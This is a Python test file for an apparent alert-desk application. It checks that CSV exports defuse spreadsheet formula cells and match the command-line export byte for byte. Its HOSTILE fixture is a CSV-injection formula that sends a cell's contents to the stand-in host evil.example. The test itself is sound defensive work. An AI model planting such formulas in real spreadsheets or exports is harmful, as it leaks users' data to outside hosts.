"""One CSV format for the desk and ``cordon export``; formula cells neutralised; honest counts."""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

from client.csvout import COLUMNS, safe_cell
from client.export import to_csv
from client.report import collect
from tests.desktop import samples
from tests.desktop.conftest import CH, FAST, DeskFactory, open_window
from tests.harness import HubHarness
from tests.pki import Leaf

HOSTILE = '=HYPERLINK("http://evil.example/?q="&A1,"Hamburg")'


def test_formula_cells_are_neutralised_numbers_are_not() -> None:
    for value in (HOSTILE, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"):
        assert safe_cell(value) == "'" + value
    assert safe_cell("Hamburg") == "Hamburg" and safe_cell(-3) == -3 and safe_cell(12) == 12


async def test_desk_csv_equals_cordon_export_and_defuses_a_planted_formula(
    hub: HubHarness, members: dict[str, Leaf], desk: DeskFactory, qtbot: Any, tmp_path: Path
) -> None:
    async with hub.client(members["fr"], **FAST) as fr:
        warn = await fr.publish(CH, "warning", samples.warning())
        await fr.publish(CH, "seizure", samples.seizure(1, qty=1200, place=HOSTILE))
        await fr.publish(CH, "seizure", {**samples.seizure(2), "goods": [
            {"category": "drugs", "hs_code": "293999", "description": "powder",
             "quantity": 2500, "unit": "g"}]})
    async with hub.client(members["de"], **FAST) as de:
        await de.publish(CH, "feedback", samples.feedback(warn.alert_id))
        exported = to_csv(await collect(de, CH))
    window = await open_window(hub, desk(members["de"]), qtbot)
    await hub.wait_for(lambda: window.proxy.rowCount() == 4)
    assert window.counts.text() == "4 shown of 4"
    window.kind_filter.setCurrentIndex(window.kind_filter.findData("seizure"))
    assert window.counts.text() == "2 shown of 4"  # follows the filter
    window.kind_filter.setCurrentIndex(0)
    window.proxy.set_newest_first(False)  # the export's order
    out = tmp_path / "desk.csv"
    assert window.export_csv(out) == 4
    desk_csv = out.read_text(encoding="utf-8")
    assert desk_csv == exported  # the same format, byte for byte
    rows = list(csv.DictReader(io.StringIO(desk_csv)))
    assert list(rows[0]) == list(COLUMNS)
    assert rows[1]["place"] == "'" + HOSTILE  # a text, not a formula
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row.values())
    assert rows[1]["items"] == "1200" and rows[2]["kg"] == "2.5"  # machine-readable
    assert rows[1]["verified"] == "true" and rows[1]["ecommerce"] == "true"
    assert rows[3]["kind"] == "feedback" and rows[3]["ref"] == warn.alert_id
    assert out.stat().st_mode & 0o777 == 0o600
